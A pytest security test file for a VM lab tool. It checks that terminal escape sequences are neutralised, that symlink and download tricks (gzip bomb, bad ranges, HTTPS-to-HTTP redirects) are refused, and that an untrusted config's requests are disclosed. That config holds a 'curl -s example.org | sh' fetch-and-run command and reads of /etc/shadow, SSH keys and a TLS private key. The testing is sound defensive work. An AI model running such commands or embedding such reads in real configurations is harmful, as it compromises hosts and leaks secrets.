"""What comes from outside is made harmless for the terminal; what is downloaded is what was asked for, and ends."""

from __future__ import annotations

import gzip
import http.server
import json
import os
import socket
import ssl
import subprocess
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from dacha.core.harmless import TerminalText
from tests.attacks.report import Report
from tests.conftest import PROGRAM, Lab

EVIL = bytes((*range(9), *range(11, 32), *range(127, 160))).replace(b"\r", b"")
BAD = {chr(n) for n in (*range(9), *range(11, 32), *range(127, 160))}


def says(line: bytes) -> Iterator[int]:
    """A service that says one line to everybody."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    client, _ = server.accept()
                except OSError:
                    return
                with client:
                    client.sendall(line)

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]


def test_no_banner_turns_the_terminal_upside_down(lab: Lab) -> None:
    report = Report()
    for service, line in (
        ("ssh", b"SSH-2.0-" + EVIL + b"\x1b]0;owned\x07\r\n"), ("http", b"HTTP/1.1\x1b[2J 200\x1b[31m OK\r\n\r\n"),
        ("vnc", b"RFB 003.\x1b[2\n"), ("ssh", b"SSH-2.0-x\x1b[32m\r\n"),
    ):  # fmt: skip
        for port in says(line):
            for form in ((), ("--json",)):
                said = lab("probe", f"127.0.0.1:{port}", "--as", service, *form, code=None)
                report.shut(f"{service} banner{' in JSON' if form else ''}", sorted(BAD & set(said.out + said.err)))
                assert not form or json.loads(said.out)
            break
    # Names in what a person downloaded are shown in refusals.
    evil = lab.folder / "evil\x1b[31m\x9b2J.img"
    evil.write_bytes(b"<html>")
    said = lab("media", "add", str(evil), code=None)
    report.shut("a file name", sorted(BAD & set(said.out + said.err)))
    report.judge()


def test_a_record_is_text_and_colours_for_a_terminal_and_itself_for_a_file(lab: Lab) -> None:
    lab("new", "siege")
    lab("guest", "add", "gauge", "--disk", "1MiB", "--memory", "64MiB")
    lab("apply", "--no-wait")
    record = b"boot \x1b[32mok\x1b[0m\r\n\x1b]0;title\x07\x1b[2J\x1b[6n\xc2\x9b5n\x00\n"
    (lab.guest_folder("gauge") / "console.log").write_bytes(record)
    whole = subprocess.run([PROGRAM, "console", "gauge", "--record"], cwd=lab.folder, env=lab.env, capture_output=True)
    assert record in whole.stdout
    script = ["script", "-qec", f"{PROGRAM} console gauge --record", "/dev/null"]
    shown = subprocess.run(script, cwd=lab.folder, env=lab.env, capture_output=True, check=True).stdout
    assert b"\x1b[32mok\x1b[0m" in shown and b"\x1b]" not in shown and b"\x1b[2J" not in shown
    assert b"\x07" not in shown and b"\xc2\x9b" not in shown and b"\x00" not in shown


@pytest.mark.parametrize("piece", [1, 2, 3, 7, 1000])
def test_a_record_may_be_read_in_any_pieces(piece: int) -> None:
    """Controls of eight bits, as UTF-8 or as raw bytes, and sequences that end in the next piece."""
    record = b"\xc2\x9b2J ok \x9b31m\x1b[32mgreen\x1b[0m\x1b]0;x\x07\xe2\x86\x92\x1b[2J\xe2\x80\xae\r\n\x1b"
    shown = TerminalText()
    text = "".join(shown.feed(record[n : n + piece]) for n in range(0, len(record), piece)) + shown.feed(b"", last=True)
    assert text == ("\\x9b2J ok \ufffd31m\x1b[32mgreen\x1b[0m\\x1b]0;x\\x07→\\x1b[2J\\x202e\r\n\\x1b")


def test_what_a_guests_user_left_in_its_run_folder_stops_no_start(lab: Lab) -> None:
    lab("new", "siege")
    lab("guest", "add", "gauge", "--disk", "1MiB", "--memory", "64MiB")
    lab("apply", "--no-wait")
    lab("stop", "gauge", "--force", "--wait", "0s")
    run = Path(lab.env["DACHA_RUN"]) / "siege/gauge"
    (run / "qmp").mkdir(parents=True)
    (run / "qmp/deep").write_text("x")
    (run / "way").symlink_to("/etc")
    lab("start", "gauge", "--no-wait")
    assert not (run / "way").exists() and Path("/etc/passwd").exists() and lab.pid("gauge")


def test_a_lab_file_of_somebody_else_says_what_it_asks_for(lab: Lab) -> None:
    lab.write(
        '[lab]\nname = "siege"\n[network.pier]\nkind = "nat"\nbackend = "kernel"\nto-host = ["tcp 3128"]\n'
        '[guest.gauge]\ndisk = [{ from = "/etc/shadow" }]\nmedium = ["/root/notes.iso"]\n'
        'adapter = [{ network = "pier" }]\n'
        'login = { user = "ops", keys = ["/home/mara/.ssh/id.pub"] }\ndoor.ssh = { from = "lan", port = 2220 }\n'
        'setup.run = ["curl -s example.org | sh"]\nsetup.file = [{ path = "/x", from = "/etc/ssl/private/key" }]\n'
    )
    os.chown(lab.file, 65533, 65533)
    said = lab("apply", code=3).err
    assert "dacha check --untrusted" in said
    asked = lab("check", "--untrusted", str(lab.file), "--json").json["requests"]
    rows = {(r["kind"], r["what"]) for r in asked}
    for kind, what in (
        ("reads", "/etc/shadow"), ("reads", "/root/notes.iso"), ("reads", "/home/mara/.ssh/id.pub"),
        ("reads", "/etc/ssl/private/key (into /x)"), ("runs", "in the guest, as root: curl -s example.org | sh"),
        ("listens", "port 2220 of this host for the LAN, door ssh"), ("reaches", "services of this host: tcp 3128"),
        ("changes", "links and firewall rules of this host (needs root)"),
    ):  # fmt: skip
        assert (kind, what) in rows, (kind, what, rows)
    assert "/etc/shadow" in lab("check", "--untrusted", str(lab.file)).out


class Server(http.server.BaseHTTPRequestHandler):
    """Every address of it is a trick."""

    other = ""

    def do_GET(self) -> None:
        body = bytes(4 << 20)
        if self.path == "/bomb":
            body = gzip.compress(bytes(64 << 20))
            self.reply(200, body, ("Content-Encoding", "gzip"))
        elif self.path == "/range":
            wanted = self.headers.get("Range")
            if not wanted:  # the first time it breaks off
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("ETag", '"one"')
                self.end_headers()
                self.wfile.write(body[: 2 << 20])
            else:
                self.reply(206, body[:100], ("Content-Range", "bytes 0-99/4194304"), ("ETag", '"one"'))
        elif self.path == "/down":
            self.reply(302, b"", ("Location", self.other))
        elif self.path == "/round":
            self.reply(302, b"", ("Location", "/round"))
        else:
            self.reply(200, body)

    def reply(self, code: int, body: bytes, *headers: tuple[str, str]) -> None:
        self.send_response(code)
        for name, value in (("Content-Length", str(len(body))), *headers):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


def certificate(folder: Path) -> Path:
    """A key and its certificate for localhost, in one file that is its own authority."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "localhost")])
    now = datetime.now(UTC)
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
        .not_valid_before(now - timedelta(hours=1)).not_valid_after(now + timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    plain = serialization.NoEncryption()
    form = serialization.PrivateFormat.PKCS8
    path = folder / "localhost.pem"
    path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, form, plain) + made.public_bytes(serialization.Encoding.PEM)
    )
    return path


@pytest.fixture
def servers(tmp_path: Path) -> Iterator[tuple[str, str, Path]]:
    """A plain server and one with TLS, each by its address, and whom to trust for the second."""
    plain, secure = (http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server) for _ in range(2))
    pem = certificate(tmp_path)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pem)
    secure.socket = context.wrap_socket(secure.socket, server_side=True)
    for server in (plain, secure):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    Server.other = f"http://127.0.0.1:{plain.server_port}/whole"
    yield f"http://127.0.0.1:{plain.server_port}", f"https://localhost:{secure.server_port}", pem
    for server in (plain, secure):
        server.shutdown()
        server.server_close()


def test_a_download_is_what_was_asked_for(lab: Lab, servers: tuple[str, str, Path]) -> None:
    report = Report()
    plain, secure, pem = servers

    def add(address: str) -> str:
        return lab("media", "add", address, "--name", "m", code=None, env={"SSL_CERT_FILE": str(pem)}).err

    kept = lab.folder / "state/media"
    report.open("a compressed answer is refused", "compressed data" in add(f"{plain}/bomb"))
    report.shut("a compressed answer: what is kept", [p.name for p in kept.glob("*.img")])
    report.open("a broken download says that it goes on", "resumes the download" in add(f"{plain}/range"))
    report.open("another part than was asked for is refused", "another range" in add(f"{plain}/range"))
    report.shut("another part: what is kept of it", [p.name for p in kept.glob(".m.fetch")])
    report.open("from https on to http is refused", "redirected from https to http://" in add(f"{secure}/down"))
    report.open("round and round is refused", "too many redirects" in add(f"{plain}/round"))
    assert "raw disk" in lab("media", "add", f"{secure}/whole", "--name", "m", env={"SSL_CERT_FILE": str(pem)}).out
    report.judge()
